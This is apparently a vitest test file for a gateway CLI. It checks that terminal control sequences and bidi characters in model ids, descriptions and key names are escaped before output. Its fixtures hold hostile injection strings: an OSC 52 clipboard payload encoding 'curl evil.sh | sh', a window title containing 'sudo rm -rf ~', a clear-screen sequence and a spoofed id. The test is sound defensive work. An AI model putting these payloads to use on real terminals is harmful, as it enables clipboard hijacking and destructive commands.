// Text from the gateway (model ids, pricing descriptions, key names) must not drive the terminal:
// OSC 52 writes the clipboard, OSC 0 the window title, CSI clears the screen, U+202E reverses an id
// and zero-width characters make two ids look alike. Every human-readable output escapes them; the
// JSON document keeps the exact strings.
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_KEY } from '../../src/simulator/index.js';
import type { Simulator } from '../../src/simulator/types.js';
import { promptsPrompter } from '../../src/wizard/prompts-port.js';
import { terminalProgress } from '../../src/wizard/spinner.js';
import { control } from '../../src/core/terminal.js';
import { jsonOf, runInProcess } from '../helpers/cli.js';
import { startSim, stopAll } from '../helpers/sim.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const TITLE = '\u001b]0;sudo rm -rf ~\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const SPOOF_ID = 'claude-sonnet-4-5\u202e\u200b-evil';
const DESCRIPTION = `Fast model${OSC52}${CLEAR} done`;
const KEY_NAME = `team${TITLE}`;

/** Anything a terminal would act on, or that hides or reorders text. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;

let sim: Simulator;
beforeAll(async () => {
  sim = await startSim({
    models: [
      { id: 'claude-sonnet-4-5', channel: 'anthropic', description: DESCRIPTION, modelRatio: 1.5, completionRatio: 5 },
      { id: SPOOF_ID, channel: 'anthropic', description: `bidi \u202eevil\u202c ${TITLE}` },
    ],
    keys: [{ key: DEMO_KEY, name: KEY_NAME, group: 'default', unlimited: true }],
  });
});
afterAll(stopAll);

const env = { GATEWAY_API_KEY: DEMO_KEY };

describe('gateway text on the terminal', () => {
  it.each([
    ['models', ['models']],
    ['models --all', ['models', '--all']],
    ['setup --dry-run', ['setup', '--yes', '--dry-run', '--agent', 'claude-code', '--model', SPOOF_ID]],
    ['verify --model', ['verify', '--model', SPOOF_ID]],
  ])('%s: no control or bidi character reaches stdout or stderr; each is shown escaped', async (_name, args) => {
    const r = await runInProcess([...args, '--base-url', sim.root], { env });
    const all = r.stdout + r.stderr;
    expect(all, all).toContain('claude-sonnet-4-5');
    const raw = RAW.exec(all);
    expect(
      raw &&
        `U+${raw[0].charCodeAt(0).toString(16)} at ${raw.index}: ${JSON.stringify(all.slice(Math.max(0, raw.index - 40), raw.index + 40))}`,
    ).toBeNull();
    expect(all).toContain('\\u202e');
  });

  it('models: the description and the key name arrive escaped, visibly', async () => {
    const r = await runInProcess(['models', '--base-url', sim.root], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('\\u001b]52;c;');
    expect(r.stdout).toContain('team\\u001b]0;sudo rm -rf ~\\u0007');
    expect(r.stdout).toContain(`claude-sonnet-4-5\\u202e\\u200b-evil`);
  });

  it('models --json: one valid document that keeps the exact strings', async () => {
    const r = await runInProcess(['models', '--json', '--base-url', sim.root], { env });
    expect(RAW.test(r.stdout)).toBe(false);
    const doc = jsonOf(r) as { key: { name: string }; models: { id: string; pricing?: { description?: string } }[] };
    expect(doc.key.name).toBe(KEY_NAME);
    expect(doc.models.map((m) => m.id)).toContain(SPOOF_ID);
    expect(doc.models.find((m) => m.id === 'claude-sonnet-4-5')?.pricing?.description).toBe(DESCRIPTION);
  });
});

describe('the wizard draws escaped gateway text', () => {
  it('a choice title and description with OSC 52 and U+202E: the prompt shows them escaped', async () => {
    const stdin = new PassThrough();
    const stdout = new PassThrough();
    let screen = '';
    stdout.setEncoding('utf8').on('data', (d: string) => (screen += d));
    const prompter = promptsPrompter({ stdin: stdin as unknown as NodeJS.ReadStream, stdout: stdout as unknown as NodeJS.WriteStream });
    const answer = prompter.select({
      message: `Model for ${SPOOF_ID}`,
      choices: [{ title: `${SPOOF_ID} ${OSC52}`, short: SPOOF_ID, description: DESCRIPTION, value: 'x' }],
    });
    await new Promise((r) => setTimeout(r, 50));
    stdin.write('\r');
    expect(await answer).toBe('x');
    // prompts' own cursor and colour sequences are CSI; nothing else may pass.
    const data = screen.replace(/\u001b\[[0-9;?]*[A-Za-z]/g, '');
    expect(RAW.exec(data)?.[0]).toBeUndefined();
    expect(data).toContain('\\u001b]52;c;');
    expect(data).toContain('\\u202e');
  });

  it('the progress lines keep a model id on one line and escape it at the output edge', async () => {
    const { forTerminal } = await import('../../src/core/terminal.js');
    const writes: string[] = [];
    const g = terminalProgress({ write: (t) => void writes.push(forTerminal(t)), color: true, control }).group();
    g.start('a', `probing ${SPOOF_ID}\n${CLEAR}`);
    g.end();
    const out = writes.join('');
    // Our own sequences pass (erase line, colours); the gateway's clear-screen does not.
    expect(out).toContain('\u001b[2K');
    expect(out).not.toContain('\u001b[2J');
    expect(out).toContain('\\u202e');
    // Each redraw of the one line is one line: a line break in the text would break the redraw.
    for (const w of writes) expect(w.match(/\n/g)).toHaveLength(1);
  });
});
